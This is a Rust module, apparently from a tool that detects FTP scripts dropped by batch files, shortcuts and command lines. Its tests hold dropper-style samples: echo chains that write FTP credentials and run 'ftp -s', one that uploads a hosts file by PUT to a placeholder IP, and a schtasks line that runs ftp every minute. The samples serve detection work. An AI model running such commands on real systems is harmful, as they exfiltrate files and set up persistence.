//! Reads one text: is it a script, what does it write, what does it start?

use super::client;
use super::content::{self, Told};
use super::emulate::emulate;
use super::language::{self, Language};
use super::launch::{Client, Platform};
use super::local_path;
use super::reading::{Confidence, Feed, Form, TextReading, Written};
use super::store::{self, Stored};
use super::writer::emulation::{Emulation, Neighbours};
use super::writer::files::VirtualFile;
use super::writer::outcome::{Origin, Outcome};
use super::written::{Places, written_text};
use crate::base::limits::Limits;
use crate::base::shortcut::Shortcut;
use crate::base::text::Text;

/// All that a text says of FTP; nothing where it says nothing and was read to its end.
#[must_use]
pub fn read(text: &Text, origin: Origin<'_>, neighbours: &dyn Neighbours, limits: &Limits) -> Option<TextReading> {
    let told = content::of(text, origin.name);
    let language = language::of(text, origin.name);
    let Outcome { fed, left, mut launches, mut sessions, runs, renames, library, diagnostics, unresolved, capped } =
        emulate(text, language, origin, neighbours, limits);
    let stored = store::read(text, origin.name);
    if matches!(language, Language::Batch | Language::Unknown) {
        launches.extend(
            commented_out(text.lines().map(|line| (line.number, line.text))).map(|launch| (launch, Feed::Elsewhere)),
        );
    }
    // Only what is written has lines to be placed, and large texts have many.
    let places = if fed.is_empty() && left.is_empty() { Places::default() } else { Places::of(text) };
    let written_text = |file: &VirtualFile| {
        let mut written = written_text(file, &places);
        let left_open = Outcome::unresolved_in(&unresolved, &written.text.content);
        match language.platform() {
            Platform::Unix => written.unresolved = left_open,
            Platform::Windows => {
                let known = written.unresolved.clone();
                written.unresolved.extend(left_open.into_iter().filter(|name| !known.contains(name)));
            }
        }
        written
    };
    let mut written: Vec<Written> =
        fed.iter().map(|file| Written { confidence: Confidence::Certain, ..written_text(file) }).collect();
    written.extend(left.iter().filter_map(|file| {
        let mut candidate = written_text(file);
        let name = candidate.path.as_deref().map_or("", local_path::file_name);
        let told = content::of(&candidate.text, name).map(|told| told.confidence);
        candidate.confidence = told.or_else(|| {
            let netrc = client::netrc::confidence(&candidate.text, name)?;
            // Programs write files of that look to test themselves: only the name tells that a client will read one.
            let only_looks = netrc != Confidence::Certain && language.form(false).may_never_run();
            Some(if only_looks { Confidence::Possible } else { netrc })
        })?;
        Some(candidate)
    }));
    let does_nothing = written.is_empty() && launches.is_empty() && sessions.is_empty();
    let told = told.filter(|told| stands(told, language, does_nothing, stored.is_some()));
    if told.is_none() && does_nothing && stored.is_none() && !capped {
        return None;
    }
    let itself = launches.iter().any(|(_, feed)| *feed == Feed::Itself);
    let mut client = library.or(told.map(|told| told.client)).unwrap_or_default();
    let form = match (&stored, told) {
        (Some(stored), _) => {
            client = stored.client;
            sessions.extend(stored.sessions.iter().cloned());
            stored.form
        }
        (None, Some(told)) if does_nothing => told.form,
        _ => language.form(itself),
    };
    let is_script = if itself { Some(Confidence::Certain) } else { told.map(|told| told.confidence) };
    Some(TextReading { form, is_script, client, sessions, written, launches, runs, renames, diagnostics, capped })
}

/// Whether a text remains a script for a client by its content once it is known what else it is: what a program writes into
/// a client's input also reads like commands, and so do the lines of a store. A script of a shell that starts clients is no
/// script of theirs, whatever its lines look like: `lftp -e "mirror …"` is one of lftp's own words as well.
fn stands(told: &Told, language: Language, does_nothing: bool, is_store: bool) -> bool {
    let has_own_face = told.client != Client::WindowsFtp;
    let is_program = !matches!(language, Language::Batch | Language::Unknown);
    let is_shell = language == Language::Shell && !does_nothing;
    !is_shell && (has_own_face || !(is_store || is_program && !does_nothing))
}

/// All that a shortcut of the Windows shell says of FTP.
#[must_use]
pub fn read_shortcut(
    shortcut: &Shortcut,
    origin: Origin<'_>,
    neighbours: &dyn Neighbours,
    limits: &Limits,
) -> Option<TextReading> {
    let mut emulation = Emulation::new(origin, Platform::Windows, neighbours, limits);
    if shortcut.padded {
        emulation.diagnose("padded-arguments", "blanks push a part of the arguments out of sight");
    }
    started(emulation, &shortcut.command_line(), shortcut.working_directory.as_deref(), Form::Url)
}

/// All that a command line says of FTP which a process was started with, in the folder that it was started in.
#[must_use]
pub fn read_command_line(
    line: &str,
    directory: Option<&str>,
    origin: Origin<'_>,
    neighbours: &dyn Neighbours,
    limits: &Limits,
) -> Option<TextReading> {
    let emulation = Emulation::new(origin, Platform::Windows, neighbours, limits);
    started(emulation, line, directory, Form::Batch)
}

fn started(mut emulation: Emulation<'_>, line: &str, directory: Option<&str>, form: Form) -> Option<TextReading> {
    emulation.line = 1;
    emulation.directory = directory.filter(|directory| !directory.is_empty()).map(str::to_owned);
    emulation.start(line);
    let Outcome { fed, launches, sessions, library, runs, renames, diagnostics, capped, .. } = emulation.finish();
    if launches.is_empty() && sessions.is_empty() && !capped {
        return None;
    }
    let written = |file| Written { confidence: Confidence::Certain, ..written_text(file, &Places::default()) };
    Some(TextReading {
        form,
        is_script: None,
        client: library.unwrap_or_default(),
        sessions,
        written: fed.iter().map(written).collect(),
        launches,
        runs,
        renames,
        diagnostics,
        capped,
    })
}

/// What the store of a client says that is no text.
#[must_use]
pub fn of_store(stored: Stored) -> TextReading {
    TextReading {
        form: stored.form,
        is_script: None,
        client: stored.client,
        sessions: stored.sessions,
        written: Vec::new(),
        launches: Vec::new(),
        runs: Vec::new(),
        renames: Vec::new(),
        diagnostics: stored.diagnostics,
        capped: false,
    }
}

/// Launches in remarks: they were meant once, and never run as the text stands.
fn commented_out<'a>(lines: impl Iterator<Item = (u32, &'a str)>) -> impl Iterator<Item = super::launch::Launch> {
    lines.filter_map(|(number, line)| {
        let line = line.trim_start().trim_start_matches('@');
        let remark = match line.split_at_checked(4) {
            Some((word, rest)) if word.eq_ignore_ascii_case("rem ") => rest,
            _ => line.strip_prefix("::")?,
        };
        let remark = remark.trim_start().trim_start_matches('@');
        let mut launch = client::launch(&client::switches::split_arguments(remark), remark, Platform::Windows)?;
        launch.script_path.as_ref()?;
        launch.would_run = false;
        launch.note = Some("commented out".to_owned());
        launch.found_in.line = Some(number);
        Some(launch)
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::script::client::{self, world::Unknown};
    use crate::script::launch::Switches;
    use crate::script::writer::emulation::Alone;

    fn read_text(text: &str) -> TextReading {
        let origin = Origin { directory: Some("C:\\w"), name: "a.bat" };
        read(&Text::from_content(text), origin, &Alone, &Limits::default()).expect("says something")
    }

    /// What comes out of a dropper: its files' content, each with the letter of a launch's feed.
    fn scripts(text: &str) -> Vec<String> {
        read_text(text).written.iter().map(|written| written.text.content.replace("\r\n", "|")).collect()
    }

    #[test]
    fn droppers_leave_these_bytes() {
        let cases: [(&str, &[&str]); 16] = [
            ("echo open h.x>%TEMP%\\a.txt\npowershell -c \"ftp -n -s:$env:TEMP\\a.txt\"", &["open h.x|"]),
            (
                "echo open 192.0.2.10 21>a.txt&echo user bob s3cret>>a.txt&echo bye>>a.txt&ftp -n -s:a.txt&del a.txt",
                &["open 192.0.2.10 21|user bob s3cret|bye|"],
            ),
            ("echo open h.x > f\necho anonymous >> f\nftp -s:f", &["open h.x |anonymous |"]),
            ("echo open h.x>x&echo user bob 1>>x&echo s3cret>>x&ftp -n -s:x", &["open h.x|user bob |s3cret|"]),
            (
                "(echo open h.x 2121&echo bob&echo pw1)>%TEMP%\\t.txt&ftp -i -s:%TEMP%\\t.txt",
                &["open h.x 2121|bob|pw1|"],
            ),
            (">s.dat echo open h.x\n>>s.dat echo p^&w\nftp -s:s.dat", &["open h.x|p&w|"]),
            ("echo open h.x>k&echo.>>k&echo.>>k&<nul set /p=bye>>k&ftp -s:k", &["open h.x|||bye"]),
            (
                "set H=203.0.113.5&set F=%TEMP%\\~t.tmp\necho open %H%>%F%\necho user %U% x>>%F%\nftp -n -s:%F%",
                &["open 203.0.113.5|user %U% x|"],
            ),
            ("@echo off\n(\necho open h.x\necho bob\n) > %TEMP%\\s.ftp\nftp.exe -s:%TEMP%\\s.ftp", &["open h.x|bob|"]),
            ("(echo open h.x&echo bye)|ftp -n", &["open h.x|bye|"]),
            ("echo open h.x>a\ntype a|ftp -n", &["open h.x|"]),
            ("echo open h.x>a\necho bye>b\ncopy a+b c\nftp -s:c", &["open h.x|bye|"]),
            ("cmd /c \"echo open h.x>a&echo bye>>a&ftp -s:a\"", &["open h.x|bye|"]),
            ("call :gen > f\nftp -s:f\nexit /b\n:gen\necho open h.x\necho bye\nexit /b", &["open h.x|bye|"]),
            ("for %%f in (a b) do echo get %%f>>s\nftp -s:s", &["get a|get b|"]),
            (
                "if exist q (echo open h.x>a) else echo open g.x>a\necho bye>>a\nftp -s:a",
                &["open h.x|bye|", "open g.x|bye|"],
            ),
        ];
        for (text, expected) in cases {
            assert_eq!(scripts(text), expected, "{text}");
        }
    }

    #[test]
    fn launches_know_what_they_are_fed() {
        let cases = [
            ("@ftp -i -s:\"%~f0\"&GOTO:EOF\nopen h.x\nbob\npw\nget a\nbye", Feed::Itself),
            ("ftp -s:C:\\x\\gone.txt", Feed::Elsewhere),
            ("echo bye>a&ftp -s:a", Feed::Written(0)),
            ("start /min ftp /s:FTP.txt /A", Feed::Elsewhere),
            (
                "schtasks /create /tn U /tr \"powershell -c \\\"ftp -A -s:'C:\\P\\ftp.txt'\\\"\" /sc minute",
                Feed::Elsewhere,
            ),
        ];
        for (text, feed) in cases {
            let reading = read_text(text);
            assert_eq!(reading.launches.iter().map(|(_, feed)| *feed).collect::<Vec<_>>(), [feed], "{text}");
        }
        let task =
            read_text("schtasks /create /tn U /tr \"powershell -c \\\"ftp -A -s:'C:\\P\\ftp.txt'\\\"\" /sc minute");
        assert_eq!(task.launches[0].0.script_path.as_deref(), Some("C:\\P\\ftp.txt"));
        let remark = read_text("rem ftp -n -s:a.txt");
        assert!(!remark.launches[0].0.would_run);
    }

    #[test]
    fn the_working_directory_is_followed() {
        let reading = read_text("cd /d C:\\Windows\\Temp\necho bye>t\nftp -s:t\nstart p.exe");
        assert_eq!(reading.written[0].working_directory.as_deref(), Some("C:\\Windows\\Temp"));
        assert_eq!(reading.launches[0].0.working_directory.as_deref(), Some("C:\\Windows\\Temp"));
        assert_eq!(reading.runs[0].command_line, "p.exe");
    }

    #[test]
    fn provenance_names_the_writing_line() {
        let reading = read_text("@echo off\necho open h.x>a\n(echo bob\necho pw)>>a\nftp -s:a");
        let lines: Vec<_> =
            reading.written[0].provenance.iter().map(|p| (p.line, p.written_by_line, p.written_by_bytes)).collect();
        assert_eq!(lines, [(1, 2, Some([10, 25])), (2, 3, Some([26, 35])), (3, 4, Some([36, 47]))]);
    }

    #[test]
    fn a_netrc_in_a_folder_that_nobody_knows_is_none_that_a_client_reads() {
        let cases: [(&str, &[Confidence]); 4] = [
            ("'.netrc'", &[Confidence::Certain]),
            ("'/home/kim/.netrc'", &[Confidence::Certain]),
            ("os.path.join('/home/kim', '.netrc')", &[Confidence::Certain]),
            ("os.path.join(d, '.netrc')", &[Confidence::Possible]),
        ];
        for (path, confidence) in cases {
            let text = format!(
                "import os, netrc\nwith open({path}, 'w') as f:\n    f.write('machine h.example login bob password pw\\n')\n"
            );
            let origin = Origin { name: "a.py", ..Origin::default() };
            let reading = read(&Text::from_content(text), origin, &Alone, &Limits::default());
            let written = reading.map(|reading| reading.written).unwrap_or_default();
            assert_eq!(written.iter().map(|file| file.confidence).collect::<Vec<_>>(), confidence, "{path}");
        }
    }

    #[test]
    fn endless_loops_and_growth_end() {
        let growth = format!("echo x>a\n{}ftp -s:a", "type a>>a\n".repeat(60));
        for text in [":a\necho x>>f\ngoto a\nftp -s:f", "set a=x\nset a=%a%%a%\n", growth.as_str()] {
            let _ = read(&Text::from_content(text), Origin::default(), &Alone, &Limits::default());
        }
    }

    #[test]
    fn a_dropped_script_runs_like_any_other() {
        let reading = read_text(
            "echo open 192.0.2.13>c&echo USER anonymous>>c&echo binary>>c&echo PUT c:\\x\\hosts>>c&echo bye>>c&ftp -v -n -s:c",
        );
        let switches = Switches { no_auto_login: true, ..Switches::default() };
        let run =
            client::interpret(&reading.written[0].text, Default::default(), &switches, &Unknown, &Limits::default());
        let session = &run.sessions[0];
        assert_eq!(session.credentials[0].password.as_ref().map(|p| p.reveal()), Some("binary"));
        assert_eq!(session.transfers[0].remote_path.as_deref(), Some("hosts"));
        assert_eq!(session.transfers[0].mode, crate::script::transfer::Mode::Ascii);
    }
}
